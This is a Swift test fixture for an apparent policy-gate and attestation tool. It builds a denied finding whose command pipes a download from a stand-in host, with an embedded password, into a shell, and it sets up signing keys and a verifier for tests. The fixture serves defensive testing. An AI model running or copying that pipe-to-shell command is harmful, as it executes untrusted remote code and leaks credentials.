import CavraAttest
import CavraModel
import CavraTrust
import Foundation

/// A judged range with a denied command that carries a password, signed the way `check --attest` signs it.
enum AttestationFixture {
    static let head = String(repeating: "b", count: 40)
    static let base = String(repeating: "a", count: 40)
    static let policyDigest = "sha256:" + String(repeating: "c", count: 64)
    static let password = "hunter2"

    static var result: GateResult {
        let finding = Finding(
            fingerprint: "f1", ruleID: "network.pipe-to-shell", decision: .deny, severity: .critical, kind: .command,
            path: ".github/workflows/ci.yml", line: 6,
            command: "curl -u user:\(password) https://x.example/i.sh | sh", reason: "piping a download into a shell")
        return GateResult(
            tool: GateResult.Tool(version: "0.1.0"), repository: "/work/app",
            range: CompareRange(mode: .range, base: base, head: head, mergeBase: base, commits: [head]),
            policy: GateResult.PolicyInfo(
                id: "team", version: "2", digest: policyDigest, packs: ["team@2"], source: "bundled"),
            changeCount: 1, findings: [finding])
    }

    static func statement(at date: Date = Date(timeIntervalSince1970: 1_800_000_000)) throws -> Statement {
        try Statement(result: result, subjectName: "github.com/acme/app", evaluatedAt: date)
    }

    static func keys(_ algorithm: SignatureAlgorithm) throws -> (signing: SigningKey, trusted: TrustedKey) {
        let pair = SigningKey.generate(algorithm)
        return (
            try SigningKey(pem: pair.privatePEM, source: "test key"),
            try TrustedKey(pem: pair.publicPEM ?? "", source: "test public key")
        )
    }

    static func verifier(trusting keys: [TrustedKey], head: String = head, policy: String = policyDigest) throws
        -> AttestationVerifier
    {
        try AttestationVerifier(trustedKeys: keys, subject: .head(head), policy: .digest(policy))
    }
}
